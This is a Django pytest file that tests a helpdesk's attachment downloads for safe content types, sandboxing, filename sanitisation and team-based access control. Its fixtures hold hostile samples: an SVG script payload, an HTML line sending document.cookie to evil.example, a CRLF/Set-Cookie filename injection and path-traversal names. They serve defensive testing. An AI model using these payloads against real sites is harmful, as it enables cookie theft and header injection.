"""Files customers send are opened by agents without anything in them running (django-helpdesk
CVE-2021-3950, osTicket #3764, osTicket CVE-2020-24917) and only by those who may see the
ticket (FreeScout CVE-2026-40496)."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from sigap.accounts.models import User
from sigap.intake.models import Mailbox
from sigap.tickets.downloads import content_disposition
from sigap.tickets.models import Attachment
from tests.trust.conftest import only_attachment, ticket_with_files

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>fetch('/api/me')</script></svg>"
)
HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


@pytest.fixture
def active_types_allowed(settings: Any) -> None:
    """An admin who lets SVG and HTML in must still not expose agents to them."""
    settings.ATTACHMENT_ALLOWED_TYPES = [
        *settings.ATTACHMENT_ALLOWED_TYPES,
        "image/svg+xml",
        "text/html",
    ]


def _download(client: Client, attachment: Attachment) -> Any:
    return client.get(f"/attachments/{attachment.storage_key}/")


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.usefixtures("active_types_allowed")
def test_an_svg_with_script_is_downloaded_never_shown(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("peta.svg", "image/svg+xml", SVG)])
    client.force_login(agent)

    response = _download(client, only_attachment(ticket))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"].split("; ")
    assert "default-src 'none'" in response["Content-Security-Policy"]
    # The bytes are the customer's, untouched: the agent gets what was sent.
    assert _body(response) == SVG


@pytest.mark.usefixtures("active_types_allowed")
def test_an_html_attachment_is_downloaded_never_shown(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("invoice.html", "text/html", HTML)])
    client.force_login(agent)

    response = _download(client, only_attachment(ticket))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "text/html" not in response["Content-Type"]


def test_a_photo_is_shown_inline_with_its_own_type(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("foto.png", "image/png", PNG)])
    client.force_login(agent)

    response = _download(client, only_attachment(ticket))

    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == (
        "inline; filename=\"foto.png\"; filename*=UTF-8''foto.png"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert _body(response) == PNG


def test_a_word_file_is_a_download_of_opaque_bytes(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    ticket = ticket_with_files(mailbox, [("surat.docx", docx, b"PK\x03\x04word")])
    client.force_login(agent)

    response = _download(client, only_attachment(ticket))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith('attachment; filename="surat.docx"')


def test_a_hostile_file_name_cannot_break_out_of_the_header_or_the_page(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    name = 'laporan"; filename="x.html\r\nSet-Cookie: a=b<script>alert(1)</script>.txt'
    ticket = ticket_with_files(mailbox, [(name, "text/plain", b"isi laporan")])
    client.force_login(agent)

    page = client.get(f"/tickets/{ticket.pk}/").content.decode()
    response = _download(client, only_attachment(ticket))

    assert "<script>alert(1)</script>" not in page
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition
    assert "\n" not in disposition
    # One filename and one filename*: the name did not add a parameter of its own.
    assert disposition.count('"') == 2
    assert disposition.count("filename=") == 1
    assert "Set-Cookie" not in response
    assert response["Content-Type"] == "text/plain; charset=utf-8"


@pytest.mark.parametrize(
    ("stored", "expected"),
    [
        ('a"b.txt', "inline; filename=\"ab.txt\"; filename*=UTF-8''ab.txt"),
        ("a\r\nb\x00c.txt", "inline; filename=\"abc.txt\"; filename*=UTF-8''abc.txt"),
        ("..\\..//etc;passwd", "inline; filename=\"etcpasswd\"; filename*=UTF-8''etcpasswd"),
        (
            "kuitansi ñ 東京.pdf",
            'inline; filename="kuitansi n .pdf"; '
            "filename*=UTF-8''kuitansi%20%C3%B1%20%E6%9D%B1%E4%BA%AC.pdf",
        ),
        ("\u202egpj.exe", "inline; filename=\"gpj.exe\"; filename*=UTF-8''gpj.exe"),
        ('"\r\n', "inline; filename=\"attachment\"; filename*=UTF-8''attachment"),
    ],
)
def test_the_download_name_is_encoded_per_rfc_6266(stored: str, expected: str) -> None:
    assert content_disposition(stored, inline=True) == expected


def test_the_files_are_linked_from_the_message_on_the_ticket_page(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(
        mailbox, [("foto.png", "image/png", PNG), ("nota.pdf", "application/pdf", b"%PDF-1.4")]
    )
    client.force_login(agent)

    page = client.get(f"/tickets/{ticket.pk}/").content.decode()

    for attachment in Attachment.objects.filter(message__ticket=ticket):
        assert f'href="/attachments/{attachment.storage_key}/"' in page
        assert f">{attachment.filename}</a>" in page


def test_a_refused_file_is_named_with_the_reason_in_the_timeline(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("program.exe", "application/x-msdownload", b"MZ")])
    client.force_login(agent)

    page = client.get(f"/tickets/{ticket.pk}/").content.decode()

    assert (
        "program.exe was not kept: files of type application/x-msdownload are not accepted" in page
    )
    # The customer's words appear once, with their message, not again under the refusal.
    assert page.count("Terlampir berkasnya.") == 1


def test_another_teams_agent_gets_the_same_404_as_a_guess(
    client: Client, outsider: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("foto.png", "image/png", PNG)])
    client.force_login(outsider)

    foreign = _download(client, only_attachment(ticket))
    guessed = client.get("/attachments/" + "0" * 48 + "/")

    assert foreign.status_code == guessed.status_code == 404
    assert PNG not in foreign.content


def test_sequential_ids_and_malformed_keys_name_nothing(
    client: Client, agent: User, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("foto.png", "image/png", PNG)])
    attachment = only_attachment(ticket)
    client.force_login(agent)

    for guess in [str(attachment.pk), "1", "../../secret_key", attachment.storage_key[:-1]]:
        assert client.get(f"/attachments/{guess}/").status_code == 404


def test_a_signed_out_visitor_is_sent_to_sign_in_without_the_file(
    client: Client, mailbox: Mailbox
) -> None:
    ticket = ticket_with_files(mailbox, [("foto.png", "image/png", PNG)])

    response = _download(client, only_attachment(ticket))

    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def test_a_manager_sees_every_teams_files(client: Client, manager: User, mailbox: Mailbox) -> None:
    ticket = ticket_with_files(mailbox, [("foto.png", "image/png", PNG)])
    client.force_login(manager)

    assert _download(client, only_attachment(ticket)).status_code == 200


def test_a_signed_in_account_without_desk_access_gets_404(client: Client, mailbox: Mailbox) -> None:
    # Someone with an account but no role (a customer of a future portal, say) is no agent.
    visitor = User.objects.create_user("tamu", "tamu@mail.example", "Rahasia-123!")
    ticket = ticket_with_files(mailbox, [("foto.png", "image/png", PNG)])
    client.force_login(visitor)

    assert _download(client, only_attachment(ticket)).status_code == 404
